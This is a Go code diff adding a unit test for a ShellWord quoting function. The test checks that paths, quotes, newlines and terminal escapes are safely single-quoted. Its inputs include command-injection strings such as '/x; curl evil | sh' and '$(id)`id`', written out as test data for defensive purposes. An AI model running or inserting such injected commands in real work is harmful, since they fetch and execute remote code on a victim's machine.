@@ -265,3 +265,20 @@ func FuzzFilterOfFiltered(f *testing.F) {
 		}
 	})
 }
+
+func TestShellWord(t *testing.T) {
+	t.Parallel()
+	for in, want := range map[string]string{
+		"":                      "''",
+		"/srv/web-1_a.b":        "/srv/web-1_a.b",
+		"/srv/my project":       "'/srv/my project'",
+		"/x; curl evil | sh":    "'/x; curl evil | sh'",
+		"$(id)`id`":             "'$(id)`id`'",
+		"it's":                  `'it'\''s'`,
+		"a\nb\x1b]0;t\x07c":     "'a bc'",
+		"~/x":                   "'~/x'",
+		"qemu+ssh://h/s?a=1&id": "'qemu+ssh://h/s?a=1&id'",
+	} {
+		assert.Equal(t, want, ShellWord(in), "%q", in)
+	}
+}
